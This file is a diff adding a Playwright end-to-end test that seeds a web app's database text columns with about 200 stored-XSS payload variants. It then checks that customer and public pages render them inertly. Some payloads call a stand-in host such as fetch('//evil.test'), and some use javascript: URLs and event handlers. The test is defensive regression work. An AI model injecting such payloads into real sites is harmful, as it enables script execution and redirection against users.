@@ -1,0 +1,153 @@
+import { join } from 'node:path'
+import { sql } from 'drizzle-orm'
+import type { Page } from 'playwright-core'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { instant } from '#domain/kernel/time.ts'
+import { openDatabase, rowsOf, type Db } from '#server/database/open.ts'
+import { openSession } from '#server/sessions/sql.ts'
+import { lendToken } from './by-http.ts'
+import { openOwnHouse, type OwnHouse } from './own-house.ts'
+import { quiet } from './quiet.ts'
+import { openVisitor, type Visitor } from './visitor.ts'
+
+/** The seeded customer who is repaying: orders, invoices, payments, notices and requests are hers. */
+const repaying = '09121000003'
+
+const deeds = ['window.__ran=1', 'alert(1)', 'fetch("//evil.test")', 'document.title="x"', 'location="//evil.test"']
+const forms = [
+  (deed: string) => `<script>${deed}</script>`,
+  (deed: string) => `"><script>${deed}</script>`,
+  (deed: string) => `</title></textarea></style><script>${deed}</script>`,
+  (deed: string) => `<img src=x onerror='${deed}'>`,
+  (deed: string) => `<svg onload='${deed}'>`,
+  (deed: string) => `<svg><animate onbegin='${deed}' attributeName=x dur=1s>`,
+  (deed: string) => `<iframe srcdoc="<script>${deed}</script>">`,
+  (deed: string) => `<iframe src='javascript:${deed}'>`,
+  (deed: string) => `<a href='javascript:${deed}' autofocus>`,
+  (deed: string) => `<details open ontoggle='${deed}'>`,
+  (deed: string) => `<input autofocus onfocus='${deed}'>`,
+  (deed: string) => `<body onload='${deed}'>`,
+  (deed: string) => `<object data='javascript:${deed}'>`,
+  (deed: string) => `<base href='//evil.test/'>${deed}`,
+  (deed: string) => `<meta http-equiv=refresh content='0;url=javascript:${deed}'>`,
+  (deed: string) => `<style>@import '//evil.test/${encodeURIComponent(deed)}'</style>`,
+  (deed: string) => `{{constructor.constructor('${deed}')()}}`,
+  (deed: string) => `\${${deed}}`,
+  (deed: string) => `&lt;script&gt;${deed}&lt;/script&gt;`,
+  (deed: string) => `\u202e<scr\u0130pt>${deed}</scr\u0130pt>`,
+]
+/** 20 forms by 5 deeds, in small and in capital tags. */
+const payloads = forms.flatMap((form) =>
+  deeds.flatMap((deed) => [form(deed), form(deed).replaceAll(/<\/?[a-z]+/g, (tag) => tag.toUpperCase())]),
+)
+
+/** What is no text for anybody to read, but a name by which the house finds or checks something. */
+const ofTheHouse =
+  /(^|_)(id|key|hash|hmac|sha256|token|status|type|slug|code|mobile|number|kind|cause|event|account|subject|reference|authority|purpose|name_en|role|state|phase|party|channel|address|locale|etag|path|policy|listener|etc)$/
+
+let house: OwnHouse
+let visitor: Visitor
+let customer: Visitor
+let planted = { columns: 0, cells: 0 }
+beforeAll(async () => {
+  house = await openOwnHouse()
+  await house.start()
+  await house.kill()
+  const database = await openDatabase({ folder: join(house.folder, 'database') })
+  planted = await plant(database.db)
+  const [owner] = await rowsOf<{ id: number }>(database.db, sql`select customer_id as id from mobiles where mobile = ${repaying}`)
+  const token = await openSession(database.db, { customerId: owner?.id ?? 0, name: 'payloads', at: instant(Date.now()) })
+  await database.close()
+  await house.start()
+  visitor = await openVisitor(house.address)
+  customer = await openVisitor(house.address)
+  await lendToken(customer.context, { token, house: house.address })
+}, 240_000)
+afterAll(async () => {
+  await Promise.all([visitor.leave(), customer.leave()])
+  await house.leave()
+})
+
+test('a script in any stored text is shown as the text it is: no dialog, nothing runs, nothing is refused by the policy, no link runs it', async () => {
+  expect(payloads.length).toBe(200)
+  expect(planted.cells).toBeGreaterThan(payloads.length)
+  const dialogs: string[] = []
+  const seen: string[] = []
+  const visit = async ({ page }: Visitor, at: string): Promise<void> => {
+    await page.goto(at)
+    await quiet(page)
+    seen.push(await page.locator('body').innerText())
+    expect([at, await trespass(page)]).toEqual([at, []])
+  }
+  for (const { page } of [visitor, customer])
+    page.on('dialog', (dialog) => (dialogs.push(`${page.url()}: ${dialog.message()}`), void dialog.dismiss()))
+  for (const at of ['/', '/stores', '/categories/digital', '/faq/1', '/calculator', '/in-person-registration']) await visit(visitor, at)
+  await visit(visitor, await linkOn(visitor.page, '/stores', 'a[href^="/stores/"]'))
+  for (const at of [
+    '/',
+    '/orders',
+    '/invoices',
+    '/notifications',
+    '/tickets',
+    '/documents',
+    '/guarantees',
+    '/profile',
+    '/profile/bank-accounts',
+  ])
+    await visit(customer, at)
+  for (const at of ['/wallet', '/points', '/point-packages', '/discounts', '/scores', '/loan-offers']) await visit(customer, at)
+  for (const [list, link] of [
+    ['/orders', 'a[href^="/orders/"]:not([href$="new"])'],
+    ['/invoices', 'a[href^="/invoices/"]'],
+  ] as const)
+    await visit(customer, await linkOn(customer.page, list, link))
+  console.log(
+    `${planted.cells} cells in ${planted.columns} columns; ${seen.filter((text) => /script|onerror|alert/i.test(text)).length} of ${seen.length} pages showed a payload`,
+  )
+  expect(dialogs).toEqual([])
+  expect([...visitor.complaints, ...customer.complaints]).toEqual([])
+  // Where nothing was shown nothing was proven.
+  expect(seen.filter((text) => /script|onerror|alert/i.test(text)).length).toBeGreaterThan(5)
+}, 600_000)
+
+/** Writes payloads into every text column that people read, a different one into each cell; what the database refuses stays. */
+async function plant(db: Db): Promise<{ columns: number; cells: number }> {
+  const columns = await rowsOf<{ table: string; column: string }>(
+    db,
+    sql`select c.table_name as table, c.column_name as column from information_schema.columns c
+        join information_schema.tables t on t.table_name = c.table_name and t.table_schema = c.table_schema and t.table_type = 'BASE TABLE'
+        where c.table_schema = 'public' and c.data_type = 'text' and c.table_name not like 'ledger%' and c.table_name not like 'staff%' order by 1, 2`,
+  )
+  const all = JSON.stringify(payloads)
+  const done = { columns: 0, cells: 0 }
+  for (const [index, { table, column }] of columns.filter(({ column: name }) => !ofTheHouse.test(name)).entries()) {
+    const [name, cell] = [sql.identifier(table), sql.identifier(column)]
+    const written = await rowsOf<{ n: number }>(
+      db,
+      sql`with numbered as (select ctid as place, row_number() over () as n from ${name} where ${cell} is not null limit 300)
+          update ${name} t set ${cell} = ${all}::jsonb ->> ((numbered.n + ${index * 7}::int) % ${payloads.length}::int)::int from numbered where t.ctid = numbered.place
+          returning 1 as n`,
+    ).catch(() => [])
+    done.cells += written.length
+    done.columns += written.length > 0 ? 1 : 0
+  }
+  return done
+}
+
+/** What a payload has done to the page, or may still do when it is clicked. */
+const trespass = (page: Page): Promise<readonly string[]> =>
+  page.evaluate(() => [
+    ...('__ran' in window ? ['a script ran'] : []),
+    ...Array.from(
+      document.querySelectorAll('[onerror], [onload], [onfocus], [ontoggle], [onbegin], iframe, object, base'),
+      ({ outerHTML }) => outerHTML.slice(0, 120),
+    ),
+    ...Array.from(document.querySelectorAll<HTMLAnchorElement>('a[href]'), ({ protocol, href }) =>
+      /^(https?|tel|mailto):$/.test(protocol) ? '' : href,
+    ).filter(Boolean),
+  ])
+
+async function linkOn(page: Page, list: string, link: string): Promise<string> {
+  await page.goto(list)
+  return (await page.locator(link).first().getAttribute('href')) ?? list
+}
